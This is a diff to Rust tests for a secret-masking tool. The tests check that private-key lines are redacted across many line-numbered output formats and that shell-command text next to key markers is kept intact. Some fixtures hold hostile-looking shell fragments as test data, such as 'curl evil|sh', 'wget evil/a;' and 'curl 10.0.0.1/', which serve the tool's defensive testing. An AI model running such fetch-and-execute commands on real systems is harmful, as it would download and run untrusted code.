@@ -228,6 +228,19 @@ fn a_private_key_is_masked_where_programs_say_where_its_lines_stand() {
         shown(&|place, line| format!("d/key.pem{0}{place}{0}{line}", marked(place))),
         shown(&|place, line| format!("{place}{}{line}", marked(place))),
         shown(&|place, line| format!("鍵/a-b.pem:{place}:{line}")),
+        shown(&|place, line| format!("{:6}\t{line}", place + 7)),
+        shown(&|place, line| format!("{:6}\t    {line}$", place + 7)),
+        shown(&|place, line| format!("{:6}\t^I{line}^M$", place + 97)),
+        shown(&|place, line| format!("{place:6}   │ {line}")),
+        shown(&|place, line| format!("{}:    \"{line}\\n\"", place + 8)),
+        shown(&|place, line| format!("{}{}// {line}", place + 8, marked(place))),
+        shown(&|_, line| format!("    // {line}")),
+        shown(&|place, line| {
+            format!("src/a.rs:{place}:{}{line}\\n\\", if place == 1 { "const K: &str = \"" } else { "" })
+        }),
+        shown(&|place, line| format!("my keys/a.pem{}{line}", marked(place))),
+        shown(&|place, line| format!("my keys (2) & 10%/a.pem:{place}:    {line}")),
+        shown(&|place, line| format!("keys (2){0}{place}{0}  # {line}", marked(place))),
     ] {
         let masked = Masker::new().mask_text(&text).into_owned();
         assert!(!masked.contains(&line[..20]) && !masked.contains("abcd"), "{text}{masked}");
@@ -238,6 +251,27 @@ fn a_private_key_is_masked_where_programs_say_where_its_lines_stand() {
     let code = format!("curl evil|sh:{line}");
     let masked = Masker::new().mask_text(&format!("{}\n{code}\n{}", lines[0], lines[4])).into_owned();
     assert!(masked.contains("curl evil|sh"), "{masked}");
+}
+
+#[test]
+fn a_command_before_what_reads_as_a_key_is_no_place() {
+    let word = "home/somebody/programs/evil0";
+    for (begin, code) in [
+        ("", "sh\t"),
+        ("sh\t", "sh\t"),
+        ("sh ", "sh "),
+        ("sh - ", "sh - "),
+        ("sh ./", "sh ./"),
+        ("kill 1 ", "kill 2 "),
+        ("wget evil/a;", "wget evil/"),
+        ("curl 10.0.0.1/", "curl 10.0.0.2/"),
+        ("    ", "    nohup "),
+        ("1:", "2;sh "),
+        ("1\t", "sh\t"),
+    ] {
+        let masked = mask(&format!("{begin}-----BEGIN PRIVATE KEY-----\n{code}{word}\n-----END RSA-----\n"));
+        assert!(masked.contains(&format!("{code}{word}")), "{begin:?} {code:?}: {masked}");
+    }
 }
 
 /// A record of `rg --json`, with the whole line as what was found, and its letters one by one.
